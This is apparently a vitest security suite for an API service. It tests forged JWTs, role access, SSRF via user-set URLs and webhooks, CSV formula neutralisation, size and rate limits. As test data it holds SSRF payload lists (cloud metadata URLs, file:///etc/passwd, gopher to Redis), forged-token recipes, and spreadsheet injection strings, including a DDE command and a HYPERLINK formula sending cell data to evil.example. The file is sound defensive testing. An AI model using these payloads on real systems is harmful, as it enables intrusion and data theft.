// Security over the real local stack: JWT edge cases, the role × route matrix, SSRF through any
// URL or host a user can set, spreadsheet formulas in CSV downloads, request size and rate
// limits, a scan for secrets in everything the run left behind, and the dependency audit.
// Each check records a row for RELIABILITY.md.
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { BlobServiceClient } from '@azure/storage-blob';
import { SignJWT, UnsecuredJWT } from 'jose';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { startTestStack, type TestStack } from '../support/testStack.js';
import { eventually, type ApiClient, type ApiResponse } from '../support/apiClient.js';
import { ROLES, type Role } from '../../shared/auth/principal.js';
import { destinations } from '../../shared/destinations/registry.js';
import type { DestinationAdapter, DestinationCall } from '../../shared/destinations/destination.js';
import { listSegments, partitionBlobs, readModel, readRecords } from '../../shared/lake/lakeReader.js';
import { MAX_BODY_BYTES } from '../../shared/http/route.js';
const SUITE_CALLER_RATE_LIMIT = { requestsPerSecond: 20, burst: 1500 };
import { PROJECT_ROOT, recordResult } from './support/results.js';
import { scanForSecrets } from './support/secretScan.js';
import { affectedInstalls, KNOWN_ADVISORIES } from './support/knownAdvisories.js';

let stack: TestStack;
let signingKey: string;
const secretsUsed: string[] = [];
const fixtures = { connectionId: '', exportId: '', runId: '', refreshId: '', webhookId: '' };
const secret = (label: string) => {
  const value = `${label}-${randomBytes(12).toString('hex')}`;
  secretsUsed.push(value);
  return value;
};

function isProblem(response: ApiResponse): boolean {
  return (
    /^application\/problem\+json/.test(response.headers.get('content-type') ?? '') &&
    response.body?.status === response.status &&
    typeof response.body?.detail === 'string'
  );
}

beforeAll(async () => {
  // A per-caller limit one flooding caller surely passes on a loaded 2-core machine (its ~100
  // requests/s reached the default 100/s only after minutes), with a burst the other suites stay under.
  stack = await startTestStack({
    seedProfiles: 500,
    simulatorOptions: { CAMPAIGN_MONITOR_API_URL: { rateLimit: false } },
    settings: { API_RATE_LIMIT: JSON.stringify(SUITE_CALLER_RATE_LIMIT) },
  });
  signingKey = stack.settings.AUTH_DEV_SIGNING_KEY!;
  const connection = await stack.api.post('/connections', {
    name: 'Security fixture',
    type: 'campaign-monitor',
    secrets: { apiKey: secret('cm-key') },
    sharing: 'contributors',
    privacyConsent: true,
  });
  expect(connection.status, connection.text).toBe(201);
  fixtures.connectionId = connection.body.id;
  const created = await stack.api.post('/exports', {
    name: 'Security fixture',
    connectionId: fixtures.connectionId,
    segments: ['Segment_VIP'],
    mapping: { email: 'Email' },
    details: { listId: 'security' },
  });
  fixtures.exportId = created.body.id;
  fixtures.runId = (await stack.api.post(`/exports/${fixtures.exportId}/runs`)).body.runId;
  const refresh = await stack.api
    .as(await stack.tokenFor('system', 'upstream'))
    .post('/refreshes', { process: 'measures', status: 'running' });
  fixtures.refreshId = refresh.body?.id ?? '0000000000000-00000000';
  fixtures.webhookId = await createWebhookKeepingSecret('Security fixture');
}, 300_000);

/**
 * A webhook whose signing secret (shown once, in this answer) joins the secrets the final scan
 * looks for everywhere else. Made with a bare fetch, so that one answer stays out of the API
 * client's transcript, which the scan reads.
 */
async function createWebhookKeepingSecret(name: string): Promise<string> {
  const response = await fetch(`${stack.apiUrl}/webhooks`, {
    method: 'POST',
    headers: { authorization: `Bearer ${await stack.tokenFor('admin', 'alice')}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      name,
      url: `${stack.webhookReceiver.url}/security`,
      events: ['run.failed', 'run.succeeded', 'run.partiallySucceeded'],
    }),
  });
  const body = (await response.json()) as { id: string; secret: string };
  expect(response.status).toBe(201);
  secretsUsed.push(body.secret, body.secret.slice('whsec_'.length));
  return body.id;
}

afterAll(async () => {
  await stack?.stop();
});

// ---------------------------------------------------------------------------------------------

describe('bearer tokens', () => {
  const now = () => Math.floor(Date.now() / 1000);
  const key = () => new TextEncoder().encode(signingKey);
  const valid = () =>
    new SignJWT({ roles: ['admin'] })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .setSubject('mallory')
      .setIssuer('outflow-local')
      .setAudience('outflow-api');

  it('refuses every malformed, forged, stale or misdirected token with 401, and role-less ones with 403', async () => {
    const cases: [string, () => Promise<string>, number][] = [
      [
        'alg none (unsigned)',
        async () =>
          new UnsecuredJWT({ roles: ['admin'] })
            .setSubject('mallory')
            .setIssuer('outflow-local')
            .setAudience('outflow-api')
            .setExpirationTime('1h')
            .encode(),
        401,
      ],
      [
        'alg none with the signature of a valid token',
        async () => {
          const [, payload, signature] = (await valid().setExpirationTime('1h').sign(key())).split('.');
          return `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url')}.${payload}.${signature}`;
        },
        401,
      ],
      ['wrong signature (another key)', async () => valid().setExpirationTime('1h').sign(randomBytes(32)), 401],
      ['signature cut off', async () => (await valid().setExpirationTime('1h').sign(key())).split('.').slice(0, 2).join('.') + '.', 401],
      [
        'payload changed after signing',
        async () => {
          const [header, , signature] = (await valid().setExpirationTime('1h').sign(key())).split('.');
          const forged = Buffer.from(
            JSON.stringify({ roles: ['admin'], sub: 'root', iss: 'outflow-local', aud: 'outflow-api', exp: now() + 3600 }),
          ).toString('base64url');
          return `${header}.${forged}.${signature}`;
        },
        401,
      ],
      [
        'HS512 (algorithm not allowed)',
        async () =>
          new SignJWT({ roles: ['admin'] })
            .setProtectedHeader({ alg: 'HS512' })
            .setSubject('mallory')
            .setIssuer('outflow-local')
            .setAudience('outflow-api')
            .setExpirationTime('1h')
            .sign(new TextEncoder().encode(signingKey.padEnd(64, 'x'))),
        401,
      ],
      [
        'expired (beyond the 30 s clock tolerance)',
        async () =>
          valid()
            .setIssuedAt(now() - 7200)
            .setExpirationTime(now() - 120)
            .sign(key()),
        401,
      ],
      [
        'not yet valid (nbf in 2 minutes)',
        async () =>
          valid()
            .setNotBefore(now() + 120)
            .setExpirationTime('1h')
            .sign(key()),
        401,
      ],
      ['wrong issuer', async () => valid().setIssuer('https://evil.example').setExpirationTime('1h').sign(key()), 401],
      ['wrong audience', async () => valid().setAudience('another-api').setExpirationTime('1h').sign(key()), 401],
      [
        'no subject',
        async () =>
          new SignJWT({ roles: ['admin'] })
            .setProtectedHeader({ alg: 'HS256' })
            .setIssuer('outflow-local')
            .setAudience('outflow-api')
            .setExpirationTime('1h')
            .sign(key()),
        401,
      ],
      [
        'no roles claim',
        async () =>
          new SignJWT({})
            .setProtectedHeader({ alg: 'HS256' })
            .setSubject('mallory')
            .setIssuer('outflow-local')
            .setAudience('outflow-api')
            .setExpirationTime('1h')
            .sign(key()),
        403,
      ],
      [
        'unknown role only',
        async () =>
          new SignJWT({ roles: ['superuser', 'Admin'] })
            .setProtectedHeader({ alg: 'HS256' })
            .setSubject('mallory')
            .setIssuer('outflow-local')
            .setAudience('outflow-api')
            .setExpirationTime('1h')
            .sign(key()),
        403,
      ],
      ['not a JWT', async () => 'not.a.jwt', 401],
    ];
    const outcomes: string[] = [];
    for (const [label, make, status] of cases) {
      const token = await make();
      for (const path of ['/exports', '/connections', '/audit']) {
        const response = await stack.api.as(undefined).get(path, { authorization: `Bearer ${token}` });
        expect(response.status, `${label} ${path}: ${response.text}`).toBe(status);
        expect(isProblem(response), `${label}: problem details`).toBe(true);
        if (status === 401) expect(response.headers.get('www-authenticate')).toBe('Bearer');
      }
      outcomes.push(`${label} → ${status}`);
    }
    for (const header of ['Basic YWRtaW46YWRtaW4=', 'Bearer', 'bearer  ', `Token ${await valid().setExpirationTime('1h').sign(key())}`]) {
      const response = await stack.api.as(undefined).get('/exports', { authorization: header });
      expect(response.status, header).toBe(401);
    }
    // The control: the same token, validly made, is accepted.
    const accepted = await stack.api
      .as(undefined)
      .get('/exports', { authorization: `Bearer ${await valid().setExpirationTime('1h').sign(key())}` });
    expect(accepted.status).toBe(200);
    recordResult('security', 'jwt', {
      passed: true,
      title: 'JWT edge cases',
      checked: `${cases.length} forged/stale/misdirected tokens × 3 routes, 4 wrong schemes`,
      figures: outcomes.join('; '),
    });
  });
});

// ---------------------------------------------------------------------------------------------

interface Operation {
  method: string;
  path: string;
  operationId: string;
  roles: Role[] | 'anonymous';
}

describe('the role × route matrix', () => {
  it('lets exactly the declared roles through every route, 401 without a token', { timeout: 300_000 }, async () => {
    const document = (await stack.api.as(undefined).get('/openapi.json')).body;
    const operations: Operation[] = [];
    for (const [path, item] of Object.entries(document.paths as Record<string, Record<string, any>>)) {
      for (const [method, operation] of Object.entries(item)) {
        const roles = operation['x-roles'] as string[];
        operations.push({
          method: method.toUpperCase(),
          path,
          operationId: operation.operationId,
          roles: roles.includes('anonymous') ? 'anonymous' : (roles as Role[]),
        });
      }
    }
    const clients = new Map<Role | 'none', ApiClient>();
    for (const role of ROLES) clients.set(role, stack.api.as(await stack.tokenFor(role, `matrix-${role}`)));
    clients.set('none', stack.api.as(undefined));
    const throwawayExport = async () =>
      (
        await stack.api.post('/exports', {
          name: 'Matrix throwaway',
          connectionId: fixtures.connectionId,
          segments: ['Segment_VIP'],
          mapping: { email: 'Email' },
          details: { listId: 'matrix' },
        })
      ).body.id as string;
    const throwawayConnection = async () =>
      (
        await stack.api.post('/connections', {
          name: 'Matrix throwaway',
          type: 'campaign-monitor',
          secrets: { apiKey: secret('matrix-key') },
          sharing: 'contributors',
          privacyConsent: true,
        })
      ).body.id as string;
    const throwawayWebhook = () => createWebhookKeepingSecret('Matrix throwaway');
    // Destructive calls get their own resource, so the fixtures survive for the next caller.
    const pathFor = async (operation: Operation, allowed: boolean) => {
      const destructive = allowed && (operation.method === 'DELETE' || operation.path.endsWith('/disconnect'));
      const exportId = destructive && operation.path.startsWith('/exports/') ? await throwawayExport() : fixtures.exportId;
      const connectionId = destructive && operation.path.startsWith('/connections/') ? await throwawayConnection() : fixtures.connectionId;
      const webhookId = destructive && operation.path.startsWith('/webhooks/') ? await throwawayWebhook() : fixtures.webhookId;
      return operation.path.replace(/\{(\w+)\}/g, (_, name: string, offset: number) => {
        const before = operation.path.slice(0, offset);
        if (name === 'runId') return fixtures.runId;
        if (before === '/connections/') return connectionId;
        if (before === '/exports/') return exportId;
        if (before === '/refreshes/') return fixtures.refreshId;
        if (before === '/webhooks/') return webhookId;
        return '00000000-0000-0000-0000-000000000000';
      });
    };
    let calls = 0;
    const denied: string[] = [];
    for (const operation of operations) {
      for (const caller of [...ROLES, 'none'] as const) {
        const allowed = operation.roles === 'anonymous' || (caller !== 'none' && operation.roles.includes(caller));
        const path = await pathFor(operation, allowed);
        const response = await clients
          .get(caller)!
          .request(operation.method, path, ['POST', 'PUT', 'PATCH'].includes(operation.method) ? { body: {} } : {});
        calls++;
        const label = `${caller} ${operation.method} ${path} → ${response.status}`;
        expect(response.status, `${label}: ${response.text}`).toBeLessThan(500);
        if (response.status >= 400) expect(isProblem(response), label).toBe(true);
        if (!allowed) expect(response.status, label).toBe(caller === 'none' ? 401 : 403);
        else expect([401, 403], `${label}: ${response.text}`).not.toContain(response.status);
        if (!allowed) denied.push(label);
      }
    }
    recordResult('security', 'role-matrix', {
      passed: true,
      title: 'Role × route matrix',
      checked: `${operations.length} operations of the served OpenAPI document × ${ROLES.length} roles + no token`,
      figures: `${calls} calls; ${denied.length} refused as declared (403 for a wrong role, 401 without a token); every allowed caller got past auth`,
    });
  });
});

// ---------------------------------------------------------------------------------------------

/** Hosts each destination may ever be called on (its own endpoints; regions and data centers). */
const VENDOR_HOSTS: Record<string, RegExp> = {
  'campaign-monitor': /^api\.createsend\.com$/,
  iterable: /^api(\.eu)?\.iterable\.com$/,
  dotdigital: /^r\d+-api(-[a-z0-9]+)?\.(dotdigital|dotmailer)\.com$/,
  mailchimp: /^[a-z]{2,}\d+\.api\.mailchimp\.com$/,
  linkedin: /^api\.linkedin\.com$/,
  klaviyo: /^a\.klaviyo\.com$/,
  'google-ads': /^(googleads|oauth2)\.googleapis\.com$/,
  'azure-blob': /^[a-z0-9]{3,24}\.(blob|dfs)\.core\.(windows\.net|chinacloudapi\.cn|usgovcloudapi\.net)$/,
};

/** A valid connection and export per destination type, which the SSRF checks then poison field by field. */
const VALID: Record<string, { settings: Record<string, unknown>; secrets: Record<string, string>; details: Record<string, unknown> }> = {
  'campaign-monitor': { settings: { clientId: 'client-1' }, secrets: { apiKey: 'k' }, details: { listId: 'list-1' } },
  iterable: { settings: { region: 'US' }, secrets: { apiKey: 'k' }, details: {} },
  dotdigital: {
    settings: { region: 'auto' },
    secrets: { username: 'apiuser@apiconnector.com', password: 'p' },
    details: { addressBookId: 1 },
  },
  mailchimp: { settings: {}, secrets: { apiKey: '0123456789abcdef-us6' }, details: { listId: 'list-1' } },
  linkedin: { settings: { adAccountId: '123', sourcePlatform: 'OUTFLOW' }, secrets: { accessToken: 't' }, details: {} },
  'azure-blob': {
    settings: { accountUrl: 'https://account1.blob.core.windows.net', container: 'exports', folder: 'out' },
    secrets: { sasToken: 'sv=2024&sig=x' },
    details: {},
  },
  klaviyo: { settings: {}, secrets: { apiKey: 'pk_k' }, details: { listId: 'Xy1' } },
  'google-ads': {
    settings: { customerId: '1234567890' },
    secrets: { clientId: 'c', clientSecret: 's', refreshToken: 'r', developerToken: 'd' },
    details: { userListId: '42' },
  },
};

const HOSTILE = [
  'https://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:7071/api/health',
  'https://evil.example',
  'evil.example',
  '//evil.example/x',
  'file:///etc/passwd',
  'https://r1-api.dotdigital.com.evil.example',
  'https://r1-api.dotdigital.com@evil.example',
  'https://evil.example/r1-api.dotdigital.com',
  'https://account1.blob.core.windows.net.evil.example',
  'https://account1.blob.core.windows.net@evil.example',
  'http://account1.blob.core.windows.net',
  'https://account1.blob.core.windows.net:444',
  'https://evil.example/.blob.core.windows.net',
  'US.evil.example',
  'r9',
  'r1.evil.example',
  'k-us6.evil.example',
  'k-169.254.169.254',
  'k-us6@evil.example',
  '../../../evil',
  '%2F%2Fevil.example',
];

/** Fields whose value can steer where a call goes: every hostile value must be a 400. */
const HOST_FIELD = /url|endpoint|host|region|origin|domain/i;

describe('SSRF: every URL, host and region a user can set', () => {
  it('refuses hostile hosts in connection settings, secrets and export details over HTTP (400)', { timeout: 300_000 }, async () => {
    const catalog = (await stack.api.get('/destinations')).body as {
      type: string;
      connectionFields: { name: string; secret: boolean }[];
      exportDetails: { name: string }[];
    }[];
    const types = catalog.map((entry) => entry.type);
    expect(
      Object.keys(VALID)
        .filter((type) => types.includes(type))
        .sort(),
      'every destination has its valid example here',
    ).toEqual([...types].sort());
    let refused = 0;
    let accepted = 0;
    const acceptedHostFields: string[] = [];
    for (const entry of catalog) {
      const valid = VALID[entry.type]!;
      for (const field of entry.connectionFields) {
        for (const value of HOSTILE) {
          const where = field.secret ? 'secrets' : 'settings';
          const body = {
            name: 'SSRF probe',
            type: entry.type,
            settings: valid.settings,
            secrets: valid.secrets,
            privacyConsent: true,
            [where]: { ...valid[where], [field.name]: value },
          };
          const response = await stack.api.post('/connections', body);
          expect(response.status, `${entry.type} ${where}.${field.name}=${value}: ${response.text}`).toBeLessThan(500);
          if (response.status === 400) refused++;
          else {
            accepted++;
            if (HOST_FIELD.test(field.name) || (entry.type === 'mailchimp' && field.name === 'apiKey'))
              acceptedHostFields.push(`${entry.type} ${where}.${field.name}=${value} → ${response.status}`);
            if (response.status === 201) await stack.api.delete(`/connections/${response.body.id}`);
          }
        }
      }
      for (const field of entry.exportDetails.filter((detail) => HOST_FIELD.test(detail.name))) {
        // Details are checked when an export is saved; a connection of the type is needed first.
        const connection = await stack.api.post('/connections', {
          name: 'SSRF details',
          type: entry.type,
          settings: valid.settings,
          secrets: valid.secrets,
          privacyConsent: true,
        });
        if (connection.status !== 201) continue;
        // The control: with valid details the export saves, so a 400 below is about the detail.
        const control = await stack.api.post('/exports', {
          name: 'SSRF control',
          connectionId: connection.body.id,
          segments: ['Segment_VIP'],
          mapping: { email: 'Email' },
          details: valid.details,
        });
        if (control.status !== 201) continue;
        for (const value of HOSTILE) {
          const response = await stack.api.post('/exports', {
            name: 'SSRF probe',
            connectionId: connection.body.id,
            segments: ['Segment_VIP'],
            mapping: { email: 'Email' },
            details: { ...valid.details, [field.name]: value },
          });
          expect(response.status, `${entry.type} details.${field.name}=${value}: ${response.text}`).toBeLessThan(500);
          if (response.status === 400) refused++;
          else acceptedHostFields.push(`${entry.type} details.${field.name}=${value} → ${response.status}`);
        }
        await stack.api.delete(`/connections/${connection.body.id}`);
      }
    }
    recordResult('security', 'ssrf-http', {
      passed: acceptedHostFields.length === 0,
      title: 'SSRF: hostile hosts refused (HTTP)',
      checked: `${HOSTILE.length} hostile URLs/hosts in every connection setting and secret of ${catalog.length} destinations, and in every export detail naming a URL, endpoint or region`,
      figures: `${refused} refused with 400; ${accepted} accepted in fields that never name a host (e.g. a list id), which the next check proves harmless${acceptedHostFields.length ? `; accepted in host fields: ${acceptedHostFields.join(', ')}` : ''}`,
    });
    expect(acceptedHostFields).toEqual([]);
  });

  it(
    'calls nothing but the vendor’s own hosts, whatever the accepted values (adapters without a local origin)',
    { timeout: 300_000 },
    async () => {
      const calledHosts = new Map<string, Set<string>>();
      let current = '';
      const answer = (url: URL) => {
        // dotdigital's discovery call names an endpoint: answer with a hostile one.
        if (url.pathname.endsWith('/v2/account-info'))
          return Response.json({ id: 1, properties: [{ name: 'ApiEndpoint', type: 'String', value: 'https://evil.example' }] });
        return Response.json({ message: 'Unauthorized' }, { status: 401 });
      };
      vi.stubGlobal('fetch', async (input: string | URL | Request) => {
        const url = new URL(typeof input === 'string' ? input : input instanceof URL ? input.href : input.url);
        const hosts = calledHosts.get(current) ?? new Set<string>();
        hosts.add(url.hostname);
        calledHosts.set(current, hosts);
        return answer(url);
      });
      const bounded = <T>(promise: Promise<T>) =>
        Promise.race([promise.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 5_000))]);
      let probes = 0;
      try {
        for (const adapter of destinations as readonly DestinationAdapter[]) {
          const valid = VALID[adapter.type];
          expect(valid, `a valid example for ${adapter.type}`).toBeDefined();
          // Storage exports go through the Azure SDK, not fetch: their account URL is allow-listed by the settings schema (checked over HTTP above).
          if (adapter.exportKinds.includes('dataOut')) continue;
          for (const [part, schema] of [
            ['settings', adapter.connectionSettings],
            ['secrets', adapter.connectionSecrets],
            ['details', adapter.exportDetails],
          ] as const) {
            const fields = [
              ...new Set([
                ...Object.keys(valid![part]),
                ...Object.keys((schema as unknown as { shape?: Record<string, unknown> }).shape ?? {}),
              ]),
            ];
            for (const field of fields) {
              for (const value of HOSTILE) {
                const candidate = { ...valid![part], [field]: value };
                const parsed = schema.safeParse(candidate);
                if (!parsed.success) continue;
                current = adapter.type;
                probes++;
                const call: DestinationCall = {
                  settings: adapter.connectionSettings.parse(part === 'settings' ? candidate : valid!.settings),
                  secrets: adapter.connectionSecrets.parse(part === 'secrets' ? candidate : valid!.secrets),
                  details: adapter.exportDetails.parse(part === 'details' ? candidate : valid!.details),
                  apiOrigin: undefined,
                };
                const segment = { id: 'Segment_VIP', name: 'VIP', type: adapter.eligibleSegmentTypes[0]! };
                await bounded(adapter.testConnection(call));
                await bounded(
                  adapter.prepareRun?.(call, { segments: [segment], segmentNames: ['VIP'], mappedFields: ['email'] }) ?? Promise.resolve(),
                );
                await bounded(adapter.sendBatch({ ...call, segment }, [{ email: 'someone@example.com', fields: { firstName: 'A' } }]));
              }
            }
          }
        }
      } finally {
        vi.unstubAllGlobals();
      }
      const offending = [...calledHosts].flatMap(([type, hosts]) =>
        [...hosts].filter((host) => !VENDOR_HOSTS[type]?.test(host)).map((host) => `${type} → ${host}`),
      );
      recordResult('security', 'ssrf-adapters', {
        passed: offending.length === 0,
        title: 'SSRF: adapters call only their vendor',
        checked:
          'every hostile value the schemas accept, in every setting, secret and detail, through testConnection, prepareRun and sendBatch with no local origin (fetch recorded); dotdigital’s discovery answered with a hostile endpoint; storage exports (Azure SDK) rely on the allow-listed account URL checked above',
        figures: `${probes} probes; hosts called: ${[...calledHosts].map(([type, hosts]) => `${type}: ${[...hosts].join(', ')}`).join('; ')}${offending.length ? `; OFF THE ALLOW-LIST: ${offending.join(', ')}` : ''}`,
      });
      expect(offending).toEqual([]);
    },
  );
});

/** Webhook targets (any public host is a fair target; loopback is allowed by the local stack): private, metadata, odd forms. */
const WEBHOOK_HOSTILE = [
  'https://169.254.169.254/latest/meta-data/',
  'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'file:///etc/passwd',
  '//evil.example/x',
  '../../../evil',
  'k-169.254.169.254',
  'https://10.0.0.5/hook',
  'https://172.16.0.1/hook',
  'https://192.168.0.1/hook',
  'https://100.100.100.200/latest/meta-data/',
  'https://[fd00:ec2::254]/latest/meta-data/',
  'https://[fe80::1]/hook',
  'https://[::ffff:169.254.169.254]/',
  'https://[::ffff:a9fe:a9fe]/',
  'https://[64:ff9b::a9fe:a9fe]/',
  'https://[2002:a9fe:a9fe::]/',
  'https://0xa9fea9fe/',
  'https://2852039166/',
  'https://0.0.0.0/',
  'https://[::]/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'https://user:pass@127.0.0.1/',
  'gopher://127.0.0.1:6379/_INFO',
];

describe('SSRF: webhook URLs', () => {
  it(
    'refuses private, link-local, metadata and non-http(s) targets with a 400 naming body.url, on create and update',
    { timeout: 120_000 },
    async () => {
      const accepted: string[] = [];
      for (const url of WEBHOOK_HOSTILE) {
        const created = await stack.api.post('/webhooks', { name: 'SSRF probe', url, events: ['run.failed'] });
        expect(created.status, `${url}: ${created.text}`).toBeLessThan(500);
        if (created.status !== 400 || !created.body.errors?.some((error: { path: string }) => error.path === 'body.url'))
          accepted.push(`create ${url} → ${created.status}`);
        const updated = await stack.api.patch(`/webhooks/${fixtures.webhookId}`, { url });
        if (updated.status !== 400) accepted.push(`update ${url} → ${updated.status}`);
      }
      recordResult('security', 'ssrf-webhooks', {
        passed: accepted.length === 0,
        title: 'SSRF: webhook URLs refused',
        checked: `${WEBHOOK_HOSTILE.length} hostile webhook URLs (private, link-local, metadata, IPv6-mapped/NAT64/6to4 forms, numeric hosts, credentials, other schemes) on POST and PATCH /webhooks; loopback is allowed only by the local stack's WEBHOOK_ALLOW_LOOPBACK`,
        figures: accepted.length
          ? `ACCEPTED: ${accepted.join(', ')}`
          : `${WEBHOOK_HOSTILE.length * 2} requests, every one a 400 naming body.url`,
      });
      expect(accepted).toEqual([]);
    },
  );
});

// ---------------------------------------------------------------------------------------------

describe('CSV downloads', () => {
  it('neutralise spreadsheet formulas (=, +, -, @, tab, CR) in every cell', { timeout: 180_000 }, async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=1+1',
      "=cmd|' /C notepad'!'A1'",
    ];
    const lake = BlobServiceClient.fromConnectionString(stack.azurite.connectionString).getContainerClient('lake');
    const model = await readModel(lake);
    const segment = listSegments(model).find((candidate) => candidate.id === 'Segment_VIP')!;
    const emailColumn = segment.entity.attributes.findIndex((attribute) => attribute.name === 'Email');
    const [blob] = await partitionBlobs(lake, segment.entity);
    const rows: string[][] = [];
    for await (const record of readRecords(lake, blob!.blobName, 0, blob!.size)) rows.push(record.values);
    expect(rows.length).toBeGreaterThan(formulas.length);
    // The upstream wrote these values into the segment: the same rows, some emails replaced.
    formulas.forEach((formula, index) => (rows[index]![emailColumn] = formula));
    const text = stringify(rows, { record_delimiter: '\n', quoted: true });
    await lake.getBlockBlobClient(blob!.blobName).upload(text, Buffer.byteLength(text));

    const created = await stack.api.post('/exports', {
      name: 'Formulas',
      connectionId: fixtures.connectionId,
      segments: ['Segment_VIP'],
      mapping: { email: 'Email', firstName: 'FirstName' },
      details: { listId: 'formulas' },
    });
    const started = await stack.api.post(`/exports/${created.body.id}/runs`);
    const run = await eventually(
      async () => {
        const response = await stack.api.get(`/exports/${created.body.id}/runs/${started.body.runId}`);
        return ['succeeded', 'partiallySucceeded', 'failed'].includes(response.body.status) ? response.body : undefined;
      },
      { timeoutMs: 120_000, what: 'the formulas run to end' },
    );
    expect(run.status).toBe('partiallySucceeded');
    const json = await stack.api.get(`/exports/${created.body.id}/runs/${run.id}/records?status=skipped`);
    expect(json.body.items.map((record: { email: string }) => record.email).sort()).toEqual([...formulas].sort());
    const csv = await stack.api.get(`/exports/${created.body.id}/runs/${run.id}/records?status=skipped`, { accept: 'text/csv' });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const cells = (parseCsv(csv.text) as string[][]).flat();
    const dangerous = cells.filter((value) => /^[=+\-@\t\r]/.test(value));
    expect(dangerous).toEqual([]);
    const emails = (parseCsv(csv.text, { columns: true }) as { email: string }[]).map((record) => record.email).sort();
    expect(emails).toEqual(formulas.map((formula) => `'${formula}`).sort());
    recordResult('security', 'csv-formulas', {
      passed: true,
      title: 'CSV downloads neutralise formulas',
      checked: `a run whose skipped records carry ${formulas.length} formula payloads (=, +, -, @) downloaded with Accept: text/csv`,
      figures: `${cells.length} cells, none starting with = + - @ tab or CR; each payload prefixed with ' in the CSV and unchanged in JSON`,
    });
  });
});

// ---------------------------------------------------------------------------------------------

describe('request size and rate limits', () => {
  it('answers 413 for bodies over 1 MB, with or without a Content-Length', async () => {
    const big = JSON.stringify({
      name: 'x',
      type: 'campaign-monitor',
      secrets: { apiKey: 'k' },
      privacyConsent: true,
      padding: 'p'.repeat(MAX_BODY_BYTES),
    });
    const declared = await stack.api.request('POST', '/connections', { rawBody: big, headers: { 'content-type': 'application/json' } });
    expect(declared.status).toBe(413);
    expect(isProblem(declared)).toBe(true);
    const token = await stack.tokenFor('admin', 'size-tester');
    const encoder = new TextEncoder();
    const streamed = await fetch(`${stack.apiUrl}/connections`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: new ReadableStream({
        start(controller) {
          for (let sent = 0; sent <= MAX_BODY_BYTES; sent += 64 * 1024) controller.enqueue(encoder.encode('x'.repeat(64 * 1024)));
          controller.close();
        },
      }),
      duplex: 'half',
    } as RequestInit);
    expect(streamed.status).toBe(413);
    expect(streamed.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const under = await stack.api.request('POST', '/connections', {
      rawBody: JSON.stringify({ name: 'x', padding: 'p'.repeat(MAX_BODY_BYTES - 100) }),
      headers: { 'content-type': 'application/json' },
    });
    expect(under.status).toBe(400);
    recordResult('security', 'request-size', {
      passed: true,
      title: 'Request size limit',
      checked: 'POST bodies of 1 MB + a little, with Content-Length and chunked; one just under',
      figures: 'over: 413 problem details both ways; under: 400 (validation), not 413',
    });
  });

  it('answers 429 with Retry-After to one caller flooding the API, and not to the others', { timeout: 120_000 }, async () => {
    const flooder = await stack.tokenFor('viewer', 'flooder');
    const bystander = stack.api.as(await stack.tokenFor('viewer', 'bystander'));
    const deadline = Date.now() + 60_000;
    let sent = 0;
    let firstLimitedAt: number | undefined;
    let limited: Response | undefined;
    const worker = async () => {
      while (!limited && Date.now() < deadline && sent < 50_000) {
        sent++;
        const response = await fetch(`${stack.apiUrl}/destinations`, { headers: { authorization: `Bearer ${flooder}` } });
        if (response.status === 429 && !limited) {
          limited = response;
          firstLimitedAt = sent;
        } else await response.arrayBuffer();
        expect(response.status === 200 || response.status === 429).toBe(true);
      }
    };
    const started = Date.now();
    await Promise.all(Array.from({ length: 32 }, worker));
    const seconds = (Date.now() - started) / 1000;
    // Recorded before the checks, so a flood that never met the limit shows in RELIABILITY.md too
    // (on a loaded machine the host may answer too slowly to drain the burst within the minute).
    const checked = `one caller with 32 requests in flight until the first 429 (limit per caller: ${SUITE_CALLER_RATE_LIMIT.requestsPerSecond}/s, bursts of ${SUITE_CALLER_RATE_LIMIT.burst}); another caller at the same time`;
    if (!limited) {
      recordResult('security', 'rate-limit', {
        passed: false,
        title: 'API rate limit',
        checked,
        figures: `no 429 after ${sent} requests in ${seconds.toFixed(1)} s (${Math.round(sent / seconds)} requests/s; the limit is met within the minute only above ${Math.ceil(SUITE_CALLER_RATE_LIMIT.burst / 60 + SUITE_CALLER_RATE_LIMIT.requestsPerSecond)} requests/s)`,
      });
    }
    expect(limited, `no 429 after ${sent} requests in ${seconds} s`).toBeDefined();
    const body = await limited!.json();
    expect(limited!.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(Number(limited!.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect(body).toMatchObject({ status: 429, title: 'Too many requests' });
    expect((await bystander.get('/destinations')).status).toBe(200);
    recordResult('security', 'rate-limit', {
      passed: true,
      title: 'API rate limit',
      checked,
      figures: `first 429 after ${firstLimitedAt} requests in ${seconds.toFixed(1)} s (${Math.round(sent / seconds)} requests/s), Retry-After ${limited!.headers.get('retry-after')} s, problem details; the other caller: 200`,
    });
  });
});

// ---------------------------------------------------------------------------------------------

function run(command: string, args: string[]): Promise<string> {
  return new Promise((resolve) => {
    execFile(command, args, { cwd: PROJECT_ROOT, timeout: 90_000, maxBuffer: 32 * 1024 * 1024 }, (_error, stdout) => resolve(stdout));
  });
}

/** Every version of every package in an `npm ls --json` tree. */
function installedVersions(tree: { dependencies?: Record<string, any> }): Map<string, Set<string>> {
  const found = new Map<string, Set<string>>();
  const walk = (node: { dependencies?: Record<string, any> }) => {
    for (const [name, child] of Object.entries(node.dependencies ?? {})) {
      if (child.version) found.set(name, (found.get(name) ?? new Set()).add(child.version));
      walk(child);
    }
  };
  walk(tree);
  return found;
}

describe('secrets and dependencies', () => {
  it('rotating a secret keeps both values out of every answer', async () => {
    const rotated = secret('cm-rotated');
    const patched = await stack.api.patch(`/connections/${fixtures.connectionId}`, { secrets: { apiKey: rotated } });
    expect(patched.status).toBe(200);
